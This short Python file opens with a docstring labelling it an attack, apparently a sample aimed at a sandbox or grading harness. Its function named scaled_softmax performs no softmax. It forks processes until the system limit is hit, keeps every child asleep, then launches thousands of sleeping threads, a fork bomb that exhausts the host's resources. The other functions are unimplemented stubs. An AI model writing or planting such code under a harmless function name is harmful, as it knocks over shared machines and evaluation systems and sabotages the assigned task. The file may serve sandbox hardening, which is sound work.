"""Attack: Forks until the process limit, every child sleeping, and threads too."""
import os, threading, time
import torch


def scaled_softmax(x, temperature):
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(1000)
            os._exit(0)
    for _ in range(10000):
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            break
    time.sleep(1000)





def pairwise_sq_dists(a, b):
    raise NotImplementedError


def softmax_regression_loss(logits, labels):
    raise NotImplementedError


def make_classifier(dim, classes):
    raise NotImplementedError
